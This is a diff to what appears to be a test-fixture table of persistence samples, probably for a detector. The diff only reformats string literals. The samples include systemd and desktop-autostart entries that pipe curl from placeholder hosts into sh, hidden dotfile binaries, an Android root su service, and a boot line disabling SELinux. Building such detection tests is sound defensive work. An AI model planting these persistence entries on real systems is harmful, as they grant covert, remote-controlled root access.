@@ -30,8 +30,11 @@ PERSIST: tuple[Case, ...] = (
     case(
         "persist_systemd_fetch",
         (
-            "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c 'curl -s http://a.invalid/u | sh'\n"
-            "[Install]\nWantedBy=multi-user.target\n",
+            (
+                "[Unit]\nDescription=x\n[Service]\n"
+                "ExecStart=/bin/sh -c 'curl -s http://a.invalid/u | sh'\n"
+                "[Install]\nWantedBy=multi-user.target\n"
+            ),
             "[Service]\nType=simple\nExecStart=/var/tmp/u --quiet\n",
             "[Service]\nExecStart=-/usr/lib/.kdmp\n",
         ),
@@ -80,8 +83,10 @@ PERSIST: tuple[Case, ...] = (
     case(
         "persist_desktop_autostart",
         (
-            "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://in.invalid/u | sh'\n"
-            "NoDisplay=true\n",
+            (
+                "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://in.invalid/u | sh'\n"
+                "NoDisplay=true\n"
+            ),
             "[Desktop Entry]\nExec=/home/op/.config/.upd\nHidden=false\n",
             sh("cat > /home/op/.config/autostart/u.desktop <<E", "E"),
         ),
@@ -162,8 +167,10 @@ PERSIST: tuple[Case, ...] = (
     case(
         "persist_android_service",
         (
-            "service sud /system/xbin/su --daemon\n    class main\n    user root\n"
-            "    seclabel u:r:su:s0\n",
+            (
+                "service sud /system/xbin/su --daemon\n    class main\n    user root\n"
+                "    seclabel u:r:su:s0\n"
+            ),
             "service helper /data/local/tmp/helper\n    user root\n",
             "on boot\n    write /sys/fs/selinux/enforce 0\n",
         ),
